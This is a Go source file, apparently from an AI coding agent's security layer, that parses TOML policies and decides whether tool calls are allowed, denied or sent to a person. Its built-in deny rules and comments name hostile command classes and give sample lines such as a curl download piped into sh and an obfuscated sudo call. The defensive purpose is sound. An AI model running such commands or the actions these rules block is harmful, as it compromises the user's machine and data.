package loop

import (
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"os"
	"regexp"
	"slices"
	"strings"
	"syscall"

	"github.com/BurntSushi/toml"

	"github.com/glassbox-dev/glassbox/history"
	"github.com/glassbox-dev/glassbox/history/sentence"
	"github.com/glassbox-dev/glassbox/loop/shell"
	"github.com/glassbox-dev/glassbox/tools"
)

// Verdict is the security layer's answer for one tool call.
type Verdict string

const (
	Allow          Verdict = "ALLOW"
	DenyVerdict    Verdict = "DENY"
	RequireConfirm Verdict = "REQUIRE_USER_CONFIRMATION"
)

// Decision is a verdict with the rule that produced it.
type Decision struct {
	Verdict Verdict `json:"verdict"`
	Rule    string  `json:"rule"`
	Reason  string  `json:"reason"`
	// NeedsPerson marks a confirmation only a person may answer: the
	// security layer cannot know what the command runs (a name built at
	// run time, interpreter code, a line sh and bash read differently, one
	// too large to read). --yes does not answer it and a session grant
	// does not cover it.
	NeedsPerson bool `json:"needs_person,omitempty"`
}

// Rule is one line of the policy. A rule matches a call when every condition
// it sets holds; the first matching rule decides.
type Rule struct {
	Name    string
	Verdict Verdict
	Reason  string
	// Tools limits the rule to these tool names; empty means any tool.
	Tools []string
	// Attributes limits the rule to tools whose attributes include every
	// one named here (attributeNames: reads_only, changes_files,
	// reaches_out). The attributes are what the tool declares; an MCP
	// server's annotations never set them.
	Attributes []string
	// Origin limits the rule to tools from there: "builtin" or "mcp".
	Origin string
	// PathOutsideWorkspace matches when any path argument resolves (after
	// symlinks) outside the workspace.
	PathOutsideWorkspace bool
	// CommandMatches matches when the "command" argument matches any of
	// these regular expressions. Every rule tries them on the command line
	// as written; a DENY rule also tries them on each line of the shell's
	// reading of it (shell.Read), so no spelling gets past a denial.
	CommandMatches []*regexp.Regexp
	// CommandChecks matches when any of these named checks (shell.Checks:
	// privilege-escalation, delete-outside-workspace, …) finds its class
	// of harm in either shell's reading of the "command" argument.
	CommandChecks []string
}

// PathChecker tells whether a path argument stays inside the workspace.
// tools.Workspace implements it.
type PathChecker = shell.PathChecker

// Policy is the ordered rule list plus the person's session grants.
type Policy struct {
	Rules []Rule
	// Default decides calls no rule matches.
	Default Decision
	// Network lets execute_command's commands connect out (the policy
	// file's top-level network = true). The kernel's sandbox otherwise
	// refuses their outbound TCP connections.
	Network bool
	// Env names variables of glassbox's environment that commands get on
	// top of the sandbox's allow-list (the policy file's env = [...]);
	// never a secret-looking name (tools.CheckPassEnv).
	Env     []string
	grants  map[string]bool
	granted []history.ToolCall // the grants in order, for the session file
}

// sessionGrantRule names the decision for a call the person allowed for the
// rest of the session.
const sessionGrantRule = "session-grant"

// The rules that hand a command to a person (Decision.NeedsPerson) when the
// security layer cannot know what it runs. They come after the policy's
// rules, and only a denial stands before them.
const (
	// unparsableRule: neither shell grammar reads the command line.
	unparsableRule = "unparsable-command"
	// unknowableRule: a command name or the code a command runs is only
	// known at run time ($X id, $(printf sud%s o) id, python3 -c '…',
	// eval "$line", sh -c "$VAR", source /dev/stdin).
	unknowableRule = "unknowable-command"
	// shellsDisagreeRule: sh (dash) and bash read the command differently.
	shellsDisagreeRule = "shells-disagree"
	// tooLargeRule: the command is over a reading limit (its size, its
	// parts, a brace expansion, the paths to check).
	tooLargeRule = "too-large-to-read"
)

// RuleReason is a decision's reason as the human trace passes it to a
// front end's Say: a built-in rule's words (BuiltInReasons) followed by what
// the rule matched, or a --policy author's words. A front end may show a
// built-in rule's words in its own language; the JSONL trace keeps them.
type RuleReason string

// BuiltInReasons are the reasons the built-in rules (DefaultPolicy) give,
// longest first, so the longest that starts a reason is the one it quotes.
func BuiltInReasons() []string {
	p := DefaultPolicy()
	var out []string
	for _, r := range p.Rules {
		out = append(out, r.Reason)
	}
	out = append(out, p.Default.Reason)
	slices.SortStableFunc(out, func(a, b string) int { return len(b) - len(a) })
	return out
}

// DefaultPolicy returns the built-in rules (docs/architecture.md, "Confinement at a glance").
func DefaultPolicy() *Policy {
	p, err := ParsePolicy([]byte(DefaultPolicyTOML))
	if err != nil {
		panic("built-in policy is invalid: " + err.Error()) // a test keeps this unreachable
	}
	return p
}

// DefaultPolicyTOML is the built-in policy, in the same format as --policy
// files (docs/policy.md).
const DefaultPolicyTOML = `# glassbox built-in security policy. First matching rule wins.

# Commands run under the kernel's sandbox where Linux offers Landlock: they
# may write only in the workspace and their own TMPDIR, and may not open
# TCP connections unless this is true.
network = false

[[rule]]
name = "path-outside-workspace"
verdict = "DENY"
reason = "a path argument resolves outside the workspace"
path_outside_workspace = true

# The named checks read the command as sh (dash) and as bash read it, every
# simple command wherever it stands (docs/policy.md lists them).
[[rule]]
name = "privilege-escalation"
verdict = "DENY"
reason = "the command runs something as another user"
tools = ["execute_command"]
command_checks = ["privilege-escalation"]

[[rule]]
name = "delete-outside-workspace"
verdict = "DENY"
reason = "the command deletes or changes files outside the workspace"
tools = ["execute_command"]
command_checks = ["delete-outside-workspace"]

[[rule]]
name = "write-outside-workspace"
verdict = "DENY"
reason = "the command writes outside the workspace; commands may write only in the workspace and in $TMPDIR"
tools = ["execute_command"]
command_checks = ["write-outside-workspace"]

[[rule]]
name = "download-to-interpreter"
verdict = "DENY"
reason = "the command feeds a download to a shell or interpreter"
tools = ["execute_command"]
command_checks = ["download-to-interpreter"]

[[rule]]
name = "fork-bomb"
verdict = "DENY"
reason = "the command starts processes without end"
tools = ["execute_command"]
command_checks = ["fork-bomb"]

[[rule]]
name = "device-write"
verdict = "DENY"
reason = "the command writes to a disk or device"
tools = ["execute_command"]
command_checks = ["device-write", "disk-format"]

[[rule]]
name = "power-off"
verdict = "DENY"
reason = "the command shuts down or restarts the machine"
tools = ["execute_command"]
command_checks = ["power-off"]

# A tool of an MCP server (--mcp) is asked about: what its server says of
# it (readOnlyHint, ...) is shown but never trusted. A rule of your own
# naming the tool (tools = ["docs__search"]) may say otherwise.
[[rule]]
name = "mcp-tools"
verdict = "REQUIRE_USER_CONFIRMATION"
reason = "a tool of an MCP server: glassbox cannot see what it does"
origin = "mcp"

# The rules below decide by what a tool declares it does, not by its name.
[[rule]]
name = "read-only-tools"
verdict = "ALLOW"
reason = "reading and listing files and asking the person change nothing"
attributes = ["reads_only"]

[[rule]]
name = "changes-need-approval"
verdict = "REQUIRE_USER_CONFIRMATION"
reason = "writing files and running commands change the workspace"
attributes = ["changes_files"]

[default]
verdict = "REQUIRE_USER_CONFIRMATION"
reason = "no rule names this tool, so a person decides"
`

type policyFile struct {
	Network bool       `toml:"network"`
	Env     []string   `toml:"env"`
	Rule    []ruleFile `toml:"rule"`
	Default *struct {
		Verdict string `toml:"verdict"`
		Reason  string `toml:"reason"`
	} `toml:"default"`
}

// ruleFile is one [[rule]] of a policy file.
type ruleFile struct {
	Name                 string   `toml:"name"`
	Verdict              string   `toml:"verdict"`
	Reason               string   `toml:"reason"`
	Tools                []string `toml:"tools"`
	Attributes           []string `toml:"attributes"`
	Origin               string   `toml:"origin"`
	PathOutsideWorkspace bool     `toml:"path_outside_workspace"`
	CommandMatches       []string `toml:"command_matches"`
	CommandChecks        []string `toml:"command_checks"`
}

// maxPolicyBytes caps a policy file. A real one is a few KiB; the cap keeps
// a wrong path (--policy /dev/zero, a huge log) from exhausting memory.
const maxPolicyBytes = 1 << 20

// LoadPolicy reads a TOML policy file; its rules replace the built-in ones.
// The file must be a regular file of at most 1 MiB: a named pipe, a device
// or a folder is refused without being read (a pipe would otherwise wait
// forever for a writer, /dev/zero would never end).
func LoadPolicy(path string) (*Policy, error) {
	b, err := readPolicyFile(path)
	if err != nil {
		return nil, err
	}
	p, err := ParsePolicy(b)
	if err != nil {
		return nil, sentence.Errorf("policy file %s: %w", path, err)
	}
	return p, nil
}

// readPolicyFile reads path within the limits LoadPolicy states.
func readPolicyFile(path string) ([]byte, error) {
	// Look before opening: opening some devices has effects of its own.
	info, err := os.Stat(path)
	if err != nil {
		return nil, sentence.Errorf("policy file: %w", err)
	}
	if err := policyFileFits(path, info); err != nil {
		return nil, err
	}
	// O_NONBLOCK: should path have become a named pipe since the Stat,
	// opening it returns at once instead of waiting for a writer.
	f, err := os.OpenFile(path, os.O_RDONLY|syscall.O_NONBLOCK, 0)
	if err != nil {
		return nil, sentence.Errorf("policy file: %w", err)
	}
	defer f.Close()
	if info, err = f.Stat(); err != nil {
		return nil, sentence.Errorf("policy file: %w", err)
	}
	if err := policyFileFits(path, info); err != nil {
		return nil, err
	}
	b, err := io.ReadAll(io.LimitReader(f, maxPolicyBytes+1))
	if err != nil {
		return nil, sentence.Errorf("policy file: %w", err)
	}
	if len(b) > maxPolicyBytes { // it grew while being read
		return nil, sentence.Errorf("policy file %s is larger than the limit of 1 MiB (%d bytes)", path, maxPolicyBytes)
	}
	return b, nil
}

// policyFileFits refuses what is not a regular file of at most 1 MiB.
func policyFileFits(path string, info os.FileInfo) error {
	if !info.Mode().IsRegular() {
		return sentence.Errorf("policy file %s is not a regular file (it is %s); give the path of a TOML file",
			path, tools.DescribeFileType(info.Mode()))
	}
	if info.Size() > maxPolicyBytes {
		return sentence.Errorf("policy file %s is %d bytes; the limit is 1 MiB (%d bytes)", path, info.Size(), maxPolicyBytes)
	}
	return nil
}

// ParsePolicy parses the TOML policy format. Every problem is reported with
// the rule it belongs to; nothing is silently ignored.
func ParsePolicy(b []byte) (*Policy, error) {
	var f policyFile
	md, err := toml.Decode(string(b), &f)
	if err != nil {
		return nil, err
	}
	if und := md.Undecoded(); len(und) > 0 {
		keys := make([]string, len(und))
		for i, k := range und {
			keys[i] = k.String()
		}
		return nil, sentence.Errorf("unknown keys: %s", strings.Join(keys, ", "))
	}
	p := &Policy{Network: f.Network, Env: f.Env, Default: Decision{Verdict: RequireConfirm, Rule: "default", Reason: "no rule matched"}}
	for _, name := range f.Env {
		if err := tools.CheckPassEnv(name); err != nil {
			return nil, err
		}
	}
	seen := map[string]bool{}
	for i, r := range f.Rule {
		rule, err := r.parse(i+1, seen)
		if err != nil {
			return nil, err
		}
		p.Rules = append(p.Rules, rule)
	}
	if f.Default != nil {
		v, err := parseVerdict(f.Default.Verdict)
		if err != nil {
			return nil, sentence.Errorf("default: %w", err)
		}
		p.Default = Decision{Verdict: v, Rule: "default", Reason: f.Default.Reason}
		if p.Default.Reason == "" {
			p.Default.Reason = "no rule matched"
		}
	}
	return p, nil
}

// parse reads rule n of the file; seen holds the names of the rules
// before it.
func (r ruleFile) parse(n int, seen map[string]bool) (Rule, error) {
	where := sentence.Errorf("rule %d", n)
	if r.Name == "" {
		return Rule{}, sentence.Errorf("%s: name is required", where)
	}
	where = sentence.Errorf("rule %d (%q)", n, r.Name)
	if seen[r.Name] {
		return Rule{}, sentence.Errorf("%s: the name is used twice", where)
	}
	seen[r.Name] = true
	v, err := parseVerdict(r.Verdict)
	if err != nil {
		return Rule{}, sentence.Errorf("%s: %w", where, err)
	}
	rule := Rule{Name: r.Name, Verdict: v, Reason: r.Reason, Tools: r.Tools, PathOutsideWorkspace: r.PathOutsideWorkspace}
	if err := r.parseTools(&rule, where); err != nil {
		return Rule{}, err
	}
	if err := r.parseCommand(&rule, where); err != nil {
		return Rule{}, err
	}
	if rule.Reason == "" {
		rule.Reason = "matched rule " + r.Name
	}
	return rule, nil
}

// parseTools reads the conditions on the tool: its attributes and origin.
func (r ruleFile) parseTools(rule *Rule, where error) error {
	for _, a := range r.Attributes {
		if !slices.Contains(attributeNames, a) {
			return sentence.Errorf("%s: attributes %q: no such attribute; the attributes are %s", where, a, strings.Join(attributeNames, ", "))
		}
		rule.Attributes = append(rule.Attributes, a)
	}
	switch r.Origin {
	case "", originBuiltin, originMCP:
		rule.Origin = r.Origin
	default:
		return sentence.Errorf("%s: origin %q: want %q or %q", where, r.Origin, originBuiltin, originMCP)
	}
	return nil
}

// parseCommand reads the conditions on the command: its patterns and the
// named checks of loop/shell.
func (r ruleFile) parseCommand(rule *Rule, where error) error {
	for _, pat := range r.CommandMatches {
		re, err := regexp.Compile(pat)
		if err != nil {
			return sentence.Errorf("%s: command_matches %q: %w", where, pat, err)
		}
		rule.CommandMatches = append(rule.CommandMatches, re)
	}
	checks := shell.Checks()
	for _, c := range r.CommandChecks {
		if _, ok := checks[c]; !ok {
			return sentence.Errorf("%s: command_checks %q: no such check; the checks are %s",
				where, c, strings.Join(slices.Sorted(maps.Keys(checks)), ", "))
		}
		rule.CommandChecks = append(rule.CommandChecks, c)
	}
	return nil
}

// CheckTools reports rules that name a tool not in known: a misspelled name
// would make the rule match nothing, silently.
func (p *Policy) CheckTools(known []string) error {
	var bad []error
	for _, r := range p.Rules {
		for _, name := range r.Tools {
			if !slices.Contains(known, name) {
				bad = append(bad, sentence.Errorf("rule %q names the tool %q", r.Name, name))
			}
		}
	}
	if len(bad) > 0 {
		return sentence.Errorf("%w; the tools are: %s", inOneLine(bad), strings.Join(known, ", "))
	}
	return nil
}

// inOneLine is errors said one after the other on one line, "; " between
// them; each is said in the reader's language (lang.Error).
type inOneLine []error

func (e inOneLine) Error() string {
	s := make([]string, len(e))
	for i, err := range e {
		s[i] = err.Error()
	}
	return strings.Join(s, "; ")
}

func (e inOneLine) Unwrap() []error { return e }

// The attribute names a rule's attributes condition takes, and what each
// means (history.Attributes).
var attributeNames = []string{"reads_only", "changes_files", "reaches_out"}

// The origins a rule's origin condition takes.
const (
	originBuiltin = "builtin"
	originMCP     = "mcp"
)

// hasAttributes reports whether the tool declares every attribute named.
func hasAttributes(spec *history.ToolSpec, names []string) bool {
	if spec == nil {
		return false
	}
	for _, n := range names {
		var has bool
		switch n {
		case "reads_only":
			has = spec.Attrs.ReadsOnly
		case "changes_files":
			has = spec.Attrs.ChangesFiles
		case "reaches_out":
			has = spec.Attrs.ReachesOut
		}
		if !has {
			return false
		}
	}
	return true
}

// origin names where the tool comes from, as a rule's origin condition
// reads it.
func origin(spec *history.ToolSpec) string {
	if spec != nil && strings.HasPrefix(spec.Attrs.Origin, originMCP+":") {
		return originMCP
	}
	return originBuiltin
}

func parseVerdict(s string) (Verdict, error) {
	switch v := Verdict(strings.ToUpper(strings.TrimSpace(s))); v {
	case Allow, DenyVerdict, RequireConfirm:
		return v, nil
	}
	return "", sentence.Errorf("verdict %q: want ALLOW, DENY or REQUIRE_USER_CONFIRMATION", s)
}

// Check decides one call. spec is the tool's definition (nil for an unknown
// tool); ws resolves path arguments.
//
// A "command" argument is read as the shells will read it (shell.Read):
// once as sh (dash) reads it and once as bash does. When a rule matches it,
// the reason ends with what the rule found. A command whose effect the
// security layer cannot know — neither grammar reads it, a name or code is
// only known at run time, the two shells read it differently, it is too
// large to read — is never allowed: a rule that would allow it or ask about
// it gives way to a confirmation only a person may answer
// (Decision.NeedsPerson), saying why. Only a denial stands.
func (p *Policy) Check(call history.ToolCall, spec *history.ToolSpec, ws PathChecker) Decision {
	// Arguments that are not a JSON object match no argument condition; the
	// tool itself rejects them with the exact error the model needs.
	args := map[string]any{}
	_ = json.Unmarshal(call.Args, &args)
	var cmd *shell.Command
	if text, ok := args["command"].(string); ok {
		cmd = shell.Read(text, ws)
	}
	d := p.Default
	for _, r := range p.Rules {
		if matched, ok := r.matches(call.Name, args, cmd, spec, ws); ok {
			d = Decision{Verdict: r.Verdict, Rule: r.Name, Reason: r.Reason + matched}
			break
		}
	}
	if cmd != nil && d.Verdict != DenyVerdict {
		if np := needsPerson(cmd); np != nil {
			d = *np
		}
	}
	return p.applyGrant(call, d)
}

// needsPerson is the decision for a command whose effect the security
// layer cannot know, or nil when it can.
func needsPerson(c *shell.Command) *Decision {
	ask := func(rule, why string) *Decision {
		return &Decision{Verdict: RequireConfirm, Rule: rule, NeedsPerson: true, Reason: "needs a person: " + why}
	}
	if c.TooLarge != "" {
		return ask(tooLargeRule, "the command is too large to read ("+c.TooLarge+"), so what it would run is unknown")
	}
	parsed := c.Parsed()
	if len(parsed) == 0 {
		return ask(unparsableRule, fmt.Sprintf("the command cannot be read as a shell command line (%v), so what it would run is unknown",
			c.Readings[len(c.Readings)-1].Err))
	}
	for _, r := range parsed {
		if len(r.Unknown) > 0 {
			return ask(unknowableRule, r.Unknown[0])
		}
	}
	if why := c.Disagreement(); why != "" {
		return ask(shellsDisagreeRule, "sh and bash read this command differently ("+why+
			"); execute_command runs sh, which is dash on some systems and bash on others")
	}
	return nil
}

func (p *Policy) applyGrant(call history.ToolCall, d Decision) Decision {
	if d.Verdict == RequireConfirm && !d.NeedsPerson && p.grants[grantKey(call)] {
		return Decision{Verdict: Allow, Rule: sessionGrantRule, Reason: "the person allowed this exact call for the session (rule " + d.Rule + " asked)"}
	}
	return d
}

// Grant allows this exact call (tool + canonical arguments) for the rest of
// the session. Only a person's answer calls it. A call whose decision needs
// a person is asked about every time, granted or not.
func (p *Policy) Grant(call history.ToolCall) {
	if p.grants == nil {
		p.grants = map[string]bool{}
	}
	if !p.grants[grantKey(call)] {
		p.granted = append(p.granted, call)
	}
	p.grants[grantKey(call)] = true
}

// Grants lists the calls granted for the session, in order.
func (p *Policy) Grants() []history.ToolCall { return slices.Clone(p.granted) }

// SetGrants replaces the session's grants (resume, fork).
func (p *Policy) SetGrants(calls []history.ToolCall) {
	p.grants, p.granted = nil, nil
	for _, c := range calls {
		p.Grant(c)
	}
}

func grantKey(call history.ToolCall) string { return call.Name + "\x00" + call.CanonicalArgs() }

// matches reports whether the rule matches the call and, for a command
// pattern, what it matched, as a note for the reason: `: "curl | sh" (the
// shell's reading of: curl "http://x/a.sh?v=1&os=linux" | sh)`.
func (r Rule) matches(tool string, args map[string]any, cmd *shell.Command, spec *history.ToolSpec, ws PathChecker) (string, bool) {
	if len(r.Tools) > 0 && !slices.Contains(r.Tools, tool) {
		return "", false
	}
	if len(r.Attributes) > 0 && !hasAttributes(spec, r.Attributes) {
		return "", false
	}
	if r.Origin != "" && (spec == nil || origin(spec) != r.Origin) {
		return "", false
	}
	if r.PathOutsideWorkspace && !pathOutside(args, spec, ws) {
		return "", false
	}
	if len(r.CommandChecks) > 0 || len(r.CommandMatches) > 0 {
		if cmd == nil {
			return "", false
		}
		if m, ok := r.matchChecks(cmd); ok {
			return m, true
		}
		return r.matchCommand(cmd)
	}
	return "", true
}

// matchChecks reports what the rule's named checks found in either
// reading: `: sudo id (bash reading of: x=$(sudo id))`.
func (r Rule) matchChecks(cmd *shell.Command) (string, bool) {
	for _, rd := range cmd.Readings { // a reading that failed still read the lines before its error
		for _, f := range rd.Findings {
			if slices.Contains(r.CommandChecks, f.Check) {
				return fmt.Sprintf(": %s (%s reading of: %s)", f.What, rd.Dialect.Name, shell.Shown(f.Source)), true
			}
		}
	}
	return "", false
}

// matchCommand tries the rule's patterns on the command as written, then,
// for a DENY rule, on each line of the shell's reading. Only a denial looks
// at the reading: a pattern seeing more can only make its rule match more,
// which makes a DENY rule stricter but could let an ALLOW or confirmation
// rule take a call that a later DENY rule should have had.
func (r Rule) matchCommand(cmd *shell.Command) (string, bool) {
	for _, re := range r.CommandMatches {
		if loc := re.FindStringIndex(cmd.Text); loc != nil {
			return fmt.Sprintf(": %q", strings.TrimSpace(cmd.Text[loc[0]:loc[1]])), true
		}
	}
	if r.Verdict != DenyVerdict {
		return "", false
	}
	for _, rd := range cmd.Readings {
		if m, ok := r.matchLines(rd.Lines); ok {
			return m, true
		}
	}
	return "", false
}

// matchLines tries the rule's patterns on the lines of one reading.
func (r Rule) matchLines(lines []shell.Line) (string, bool) {
	for _, line := range lines {
		for _, re := range r.CommandMatches {
			if loc := re.FindStringIndex(line.Text); loc != nil {
				m := strings.TrimSpace(line.Text[loc[0]:loc[1]])
				return fmt.Sprintf(": %q (the shell's reading of: %s)", m, shell.Shown(line.Source)), true
			}
		}
	}
	return "", false
}

// pathOutside reports whether any path argument leaves the workspace. For an
// unknown tool every string argument named like a path is checked.
func pathOutside(args map[string]any, spec *history.ToolSpec, ws PathChecker) bool {
	if ws == nil {
		return false
	}
	isPath := func(name string) bool {
		if spec == nil || spec.HasSchema() {
			// An unknown tool, or one with its own schema (an MCP
			// server's): any argument named like a path is checked.
			return name == "path" || name == "file" || name == "dir" || strings.HasSuffix(name, "_path")
		}
		for _, p := range spec.Params {
			if p.Name == name {
				return p.Path
			}
		}
		return false
	}
	for name, v := range args {
		s, ok := v.(string)
		if ok && isPath(name) && !ws.Inside(s) {
			return true
		}
	}
	return false
}
